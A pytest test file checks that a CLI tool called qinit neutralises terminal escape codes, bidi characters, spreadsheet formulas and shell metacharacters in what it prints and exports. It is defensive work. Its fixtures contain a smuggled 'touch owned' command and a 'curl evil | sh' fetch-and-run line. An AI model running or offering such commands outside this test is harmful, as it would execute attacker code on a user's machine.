"""What files say reaches no terminal, shell, spreadsheet or page but as text that is read."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from ready import Ready
from running import on_terminal

OURS = re.compile(r"\x1b\[[0-9;]*m")  # colours, bold, dim
OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
FORMATS = ("table", "tsv", "csv", "json", "jsonl", "markdown")

Run = Any


@pytest.fixture
def store(pipeline: Any, controlling_run: Path, tmp_path: Path) -> Path:
    """A store with that run in it, one of zero, sources that were never finished, and a file that is no artefact."""
    runs = tmp_path / "store" / "runs"
    runs.mkdir(parents=True)
    (runs / controlling_run.name).symlink_to(controlling_run)
    (runs / pipeline.runs["zero"].name).symlink_to(pipeline.runs["zero"])
    (runs / "\x1b[31mbroken\u202e.h5").write_text("no artefact")
    work = runs / ".half\x1b[2J\n.h5.work"
    work.mkdir()
    kept = {
        "kind": "run",
        "spec": {"tasks": 9},
        "provenance": {"command": "qinit fit x; touch owned\x1b[2J\n#"},
    }
    (work / "spec.json").write_text(json.dumps(kept))
    return tmp_path / "store"


def _check(ended: Any) -> None:
    for stream in (ended.out, ended.err):
        assert not OBEYED.search(OURS.sub("", stream)), repr(stream)


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("command", ["list", "show", "compare", "verify", "verdicts"])
def test_nothing_that_a_terminal_obeys_is_printed(
    here: Run, store: Path, controlling_run: Path, pipeline: Any, command: str, format: str
) -> None:
    runs = [store / "runs" / controlling_run.name, store / "runs" / pipeline.runs["zero"].name]
    given = {"list": [], "show": runs[:1], "verdicts": runs[1:]}.get(command, runs)
    ended = here(
        command,
        *given,
        "--format",
        format,
        "--color",
        "always",
        *("--store", store) * (command != "verdicts"),
    )
    assert ended.code in (0, 6), ended.err
    assert ended.out
    _check(ended)
    if format in ("json", "jsonl"):
        lines = ended.out.splitlines() if format == "jsonl" else [ended.out]
        assert all(json.loads(line) for line in lines)


@pytest.mark.parametrize(
    "words",
    [
        ["show", "no\x1b[31mname"],
        ["show", "./no\nfile\x9b.h5"],
        ["transfer", "m\x1b[31mean", "x"],
        ["compare", "--baseline", "\x1b[2J", "{run}"],
        ["compare", "--columns", "\x1b[2J", "{run}"],
        ["train-sources", "gridworld", "--goals", "\x1b[2J"],
        ["train-sources", "gridworld", "-o", "\x1b[2J\n.h5", "--tasks", "2", "--learner", "exact", "--dry-run"],
        ["export", "{run}", "--to", "\u202e"],
        ["plot", "curves", "{run}", "-o", "\x1b.gif"],
        ["fit", "{run}", "--debug"],
        ["salvage", "{run}", "-o", "\x1b[2J"],
    ],
)  # fmt: skip
def test_an_error_tells_what_was_asked_on_one_line(
    here: Run, controlling_run: Path, words: list[str]
) -> None:
    ended = here(*(word.format(run=controlling_run) for word in words))
    _check(ended)
    if "--debug" not in words:
        assert len(ended.err.splitlines()) == 1


def test_a_configuration_s_keys_and_values_are_only_read(here: Run, tmp_path: Path) -> None:
    (tmp_path / "qinit.toml").write_text('"key\\u001b[2J" = "x"\n')
    ended = here("list")
    assert ended.code == 2
    _check(ended)
    (tmp_path / "qinit.toml").write_text('store = "a\\u001b[2J\\u202e=1[bold]"\n')
    for format in FORMATS:
        _check(here("config", "--origin", "--format", format))


def test_a_name_with_brackets_is_shown_whole(
    here: Run, store: Path, controlling_run: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")  # else the name is folded beside what it differs in
    shown = here("list", "--store", store, "--format", "table", "--name", "run").out
    assert r"run[old]\x1b[2J\u202e\n$_{x}$" in "".join(shown.split())
    assert (
        "\N{SMILING FACE WITH OPEN MOUTH AND SMILING EYES}"
        not in here("show", controlling_run, "--format", "table").out
    )


def test_what_goes_on_with_unfinished_work_is_one_command_of_qinit(here: Run, store: Path) -> None:
    ended = here("list", "--store", store, "--format", "table")
    [line] = [line for line in ended.err.splitlines() if line.startswith("to go on")]
    advised = line.partition(": ")[2]
    assert advised == r"qinit fit 'x;' touch $'owned\x1b[2J' '#'"
    (store / "runs" / ".half\x1b[2J\n.h5.work" / "spec.json").write_text(
        json.dumps({"kind": "run", "spec": {"tasks": 9}, "provenance": {"command": "curl evil | sh"}})
    )
    assert "curl" not in here("list", "--store", store, "--format", "table").err


@pytest.mark.parametrize("separator", ["csv", "tsv"])
def test_a_spreadsheet_computes_no_text(here: Run, controlling_run: Path, separator: str) -> None:
    printed = here("compare", controlling_run, "--format", separator).out
    [row] = csv.DictReader(io.StringIO(printed), delimiter="\t" if separator == "tsv" else ",")
    assert row["method"].startswith("'=1+1")
    assert float(row["return"]) > 0


def test_an_export_computes_no_text_and_keeps_its_numbers(here: Run, pipeline: Any, tmp_path: Path) -> None:
    path = tmp_path / "=1+1.h5"
    path.symlink_to(pipeline.sources)
    rows = list(csv.DictReader(io.StringIO(here("export", path, "--to", "csv", "-o", "-").out)))
    assert {row["artefact"] for row in rows} == {"'=1+1"}
    assert all(float(row["q"]) >= 0 for row in rows)


def test_numbers_in_text_stay_numbers() -> None:
    from qinit_cli.cells import separated

    assert [separated(text) for text in ("-1", "+2.5e-3", "-1,0.5", "-x", "@f", "+1+1", "a=b", "\t=1", "\uff1d1")] == [
        "-1", "+2.5e-3", "-1,0.5", "'-x", "'@f", "'+1+1", "a=b", "\\t=1", "'\uff1d1",
    ]  # fmt: skip


def test_markdown_formats_no_text(here: Run, controlling_run: Path) -> None:
    *_, row = here("compare", controlling_run, "--format", "markdown").out.splitlines()
    assert r"\|\`$\\frac{$&lt;b&gt;\\x7f" in row
    assert r"\[bold\]" in row


@pytest.mark.parametrize("ending", ["svg", "png", "pdf"])
@pytest.mark.parametrize("plot", ["curves", "bars", "heatmaps", "lifetime"])
def test_a_label_is_drawn_as_it_is_written(
    here: Run, pipeline: Any, controlling_run: Path, plot: str, ending: str, tmp_path: Path
) -> None:
    ended = here("plot", plot, controlling_run, pipeline.runs["zero"], "-o", f"x.{ending}")
    assert ended.code == 0, ended.err
    _check(ended)
    if ending == "svg":
        text = (tmp_path / "x.svg").read_text()
        assert not OBEYED.search(text)
        assert r"=1+1\x1b[31m" in text  # in the description


def test_a_page_holds_the_words_and_nothing_else(
    here: Run, pipeline: Any, controlling_run: Path, tmp_path: Path
) -> None:
    ended = here("report", pipeline.runs["zero"], controlling_run)
    assert ended.code == 0, ended.err
    text = (tmp_path / "report.html").read_text()
    assert not OBEYED.search(text)
    assert r"\x1b[31m" in text


def test_a_terminal_of_its_own_sees_no_more(store: Path, controlling_run: Path, ready: Ready) -> None:
    for words in (("list", "--store", store), ("show", store / "runs" / controlling_run.name)):
        seen, _ = on_terminal(ready.qinit, words, store.parent)
        assert "old" in seen
        assert not OBEYED.search(OURS.sub("", seen).replace("\r\n", "\n")), repr(seen)


def test_labels_that_legends_would_leave_out_are_drawn(
    here: Run, pipeline: Any, relabelled: Any, tmp_path: Path
) -> None:
    for label in ("_hidden", ""):
        path = relabelled(pipeline.runs["mean"], tmp_path / f"{len(label)}.h5", label)
        assert here("plot", "curves", path, pipeline.runs["zero"], "-o", "x.svg").code == 0
